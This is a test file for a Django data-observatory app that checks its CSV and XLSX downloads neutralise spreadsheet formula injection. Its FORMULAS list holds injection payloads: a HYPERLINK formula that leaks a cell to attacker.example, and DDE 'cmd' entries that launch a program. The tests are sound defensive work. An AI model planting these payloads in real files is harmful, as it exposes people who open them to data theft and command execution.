"""Every CSV and XLSX the app writes is safe to open in a spreadsheet: no cell starts a live formula.

Labels, names and addresses that begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are
planted where they reach each export (a file sent for import; category, area, source and measure names), and
every export is read back cell by cell.
"""

from __future__ import annotations

import csv
import io

import pytest

from observatorio.tables.cells import FORMULA_START, is_live, safe_cell, xlsx_bytes
from tests.records.test_pipeline_fixtures import territory  # noqa: F401 - fixture

FORMULAS = ('=HYPERLINK("http://attacker.example/?x="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_the_one_safe_cell():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("-2+3") == "'-2+3" and safe_cell("+56 9 1234") == "'+56 9 1234"
    for number in (-3, 2.5, 0, "-3", "-3,5", "+4.25", "-12%", "1.234,5"):
        assert safe_cell(number) == number, number
    assert safe_cell("Robo") == "Robo" and safe_cell("") == "" and safe_cell(None) is None
    for text in FORMULAS:
        assert is_live(text) and not is_live(safe_cell(text))


def cells_of_csv(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def cells_of_xlsx(body: bytes) -> list:
    from openpyxl import load_workbook
    from openpyxl.utils.escape import unescape

    book = load_workbook(io.BytesIO(body))  # not data_only: a formula would come back as a formula
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                # a carriage return is stored as the OOXML escape _x000D_, which a spreadsheet reads back as \r
                out.append(unescape(cell.value) if isinstance(cell.value, str) else cell.value)
    return out


def assert_safe(cells, where: str) -> int:
    """No cell starts a live formula; returns how many planted formulas came out neutralised."""
    live = [c for c in cells if is_live(c)]
    assert not live, (where, live[:5])
    return sum(1 for c in cells if isinstance(c, str) and c.startswith("'") and c[1:2] in (*FORMULA_START, "\n"))


def test_xlsx_cells_are_values_never_formulas():
    body = xlsx_bytes("datos", ["a", "b"], [[f, -1] for f in FORMULAS])
    cells = cells_of_xlsx(body)
    assert assert_safe(cells, "xlsx") == len(FORMULAS)
    assert -1 in cells  # numbers stay numbers


@pytest.mark.django_db
def test_the_import_error_report_neutralises_formulas_from_the_file(tmp_path, territory):
    from observatorio.records.pipeline import run_import
    from observatorio.records.pipeline.report import write_report

    rows = [f"{1000 + i};05-01-2024;10:00;{f.replace(chr(10), ' ')};;;{f} 12;Atendido"
            for i, f in enumerate(FORMULAS)]
    path = tmp_path / "llamados.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=";", lineterminator="\n")
        writer.writerow(["Folio", "Fecha", "Hora", "Tipo", "Latitud", "Longitud", "Dirección", "Resultado"])
        for row in rows:
            writer.writerow(row.split(";"))
    result = run_import(path, "1461")
    issues = result.errors + result.warnings
    assert any(i.value.startswith("=HYPERLINK") for i in issues)
    assert assert_safe(cells_of_csv(write_report(issues, "csv")), "report csv") >= 4
    assert assert_safe(cells_of_xlsx(write_report(issues, "xlsx")), "report xlsx") >= 4


@pytest.mark.django_db
def test_every_download_neutralises_formulas_in_names(demo, client, personas):
    from observatorio import state
    from observatorio.dashboard import layers
    from observatorio.dashboard.board import DATASETS
    from observatorio.records.models import Category, Event, Measure, Source
    from observatorio.territory.models import Area

    client.force_login(personas["bob"])
    area = Area.objects.get(code="13122-UV01")
    area.name = FORMULAS[0]
    area.save()
    event = Event.objects.filter(source__code="carabineros").select_related("category").first() or \
        Event.objects.select_related("category", "source").first()
    Category.objects.filter(pk=event.category_id).update(name=FORMULAS[1])
    measure = Measure.objects.filter(sources=event.source_id).first()
    Measure.objects.filter(pk=measure.pk).update(name=FORMULAS[2], unit=FORMULAS[5])
    Source.objects.filter(pk=event.source_id).update(name=FORMULAS[3])
    state.reset()
    try:
        year = str(event.occurred_on.year)
        query = {"period": "year", "year": year, "measure": measure.code}
        planted = 0
        for name in DATASETS:
            response = client.get(f"/tablero/datos/{name}.csv", query)
            assert response.status_code == 200, name
            planted += assert_safe(cells_of_csv(response.content), f"board {name}")
        for key in layers.LAYER_KEYS:
            response = client.get(f"/mapa/capa/{key}.csv", query)
            assert response.status_code == 200, key
            planted += assert_safe(cells_of_csv(response.content), f"map {key}")
        response = client.get(f"/area/{area.id}/datos.csv")
        planted += assert_safe(cells_of_csv(response.content), "profile")
        for url in ("/fuentes/datos.csv", "/fuentes/conciliacion.csv"):
            response = client.get(url)
            assert response.status_code == 200, url
            planted += assert_safe(cells_of_csv(response.content), url)
        assert planted > len(DATASETS), "the planted names reached the downloads"
    finally:
        state.reset()
